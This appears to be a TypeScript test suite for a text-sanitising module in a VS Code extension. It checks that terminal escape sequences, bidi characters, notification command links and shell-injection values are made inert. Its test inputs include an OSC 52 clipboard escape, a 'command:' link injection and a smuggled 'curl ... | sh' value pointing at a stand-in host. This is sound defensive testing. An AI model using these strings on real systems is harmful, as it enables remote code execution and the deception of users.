import { strict as assert } from 'node:assert';
import {
  hasInvisible,
  inertForLabel,
  inertForMarkdown,
  inertForNotification,
  inertForTerminal,
  inertText,
  shellQuote,
} from '../../src/core/inertText';

describe('inertText: network text shown to a person', () => {
  it('makes ESC, C1 (CSI U+009B), DEL, bidi and zero-width characters visible', () => {
    const hostile = 'a\x1b]52;c;ZXZpbA==\x07b\u009b2Jc\x7fd\u202ee\u2066f\u200bg\ufeffh';
    const out = inertText(hostile);
    assert.equal(hasInvisible(out), false);
    assert.equal(out, 'a\\x1b]52;c;ZXZpbA==\\x07b\\x9b2Jc\\x7fd\\u202ee\\u2066f\\u200bg\\ufeffh');
  });

  it('turns \\r into a visible escape so it cannot overwrite a line, and \\n/\\t into spaces', () => {
    assert.equal(inertForTerminal('✓ Connected\rFAIL'), '✓ Connected\\x0dFAIL');
    assert.equal(inertText('a\nb\tc'), 'a b c');
    assert.equal(inertText('a\r\nb', { keepNewlines: true }), 'a\nb');
  });

  it('cuts after neutralising, with an ellipsis', () => {
    assert.equal(inertText('abcdef', { maxChars: 4 }), 'abc…');
    assert.equal(inertText('abc', { maxChars: 4 }), 'abc');
  });

  it('never forms a notification link', () => {
    const out = inertForNotification('[Open Billing](command:workbench.action.terminal.sendSequence?%7B%7D)');
    assert.equal(out, '[Open Billing]\\(command:workbench.action.terminal.sendSequence?%7B%7D)');
    assert.equal(inertForNotification('No credits left (HTTP 402) [a] (b)'), 'No credits left (HTTP 402) [a] (b)');
    // VS Code's notification link syntax (vs/base/common/linkedText.ts) must not match.
    const linkRegex = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
    assert.equal(linkRegex.test(out), false);
  });

  it('escapes $(icon) in labels and every markdown token in markdown', () => {
    assert.equal(inertForLabel('gpt $(alert) x'), 'gpt \\$(alert) x');
    assert.equal(inertForMarkdown('[x](https://e.example) *b* $(a)'), '\\[x\\]\\(https\\://e\\.example\\) \\*b\\* \\$\\(a\\)');
  });

  it('shell-quotes anything that is not a plain id, and refuses control characters', () => {
    assert.equal(shellQuote('gpt-4o-mini'), 'gpt-4o-mini');
    assert.equal(shellQuote('org/model:1'), 'org/model:1');
    assert.equal(shellQuote('gpt-4o; curl -s https://x.example/p | sh #'), "'gpt-4o; curl -s https://x.example/p | sh #'");
    assert.equal(shellQuote("it's"), "'it'\\''s'");
    assert.equal(shellQuote('a\x1bb'), undefined);
  });

  it('never throws on odd input', () => {
    assert.equal(inertText(undefined), '');
    assert.equal(inertText(null), '');
    assert.equal(
      inertText({
        toString() {
          throw new Error('x');
        },
      }),
      '',
    );
  });
});
